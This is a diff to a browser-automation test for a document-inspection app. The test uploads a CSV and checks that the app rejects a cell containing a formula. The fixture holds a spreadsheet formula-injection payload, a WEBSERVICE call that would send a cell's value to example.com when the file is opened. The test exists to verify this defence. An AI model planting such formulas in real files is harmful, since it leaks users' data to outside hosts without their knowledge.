@@ -506,6 +506,14 @@ def test_inspector_corrects_an_interview_and_a_document(
         "The selected PDF contains JavaScript"
     )
     visit(page, "Change a document")
+    # Figures with a cell that would fetch a web address when opened in a spreadsheet.
+    figures = tmp_path / "figures.csv"
+    figures.write_bytes(b'area,count\nNorth,"=WEBSERVICE(""https://example.com/?""&A2)"\n')
+    page.get_by_label("New file", exact=True).set_input_files(str(figures))
+    page.get_by_role("button", name="Save changes").click()
+    expect(summary).to_be_focused()
+    expect(summary).to_contain_text("row 2 has one. Remove it, or start the cell with")
+    visit(page, "Change a document")
     redacted = tmp_path / "minutes redacted.pdf"
     redacted.write_bytes(pdf("Redacted"))
     page.get_by_label("New file", exact=True).set_input_files(str(redacted))
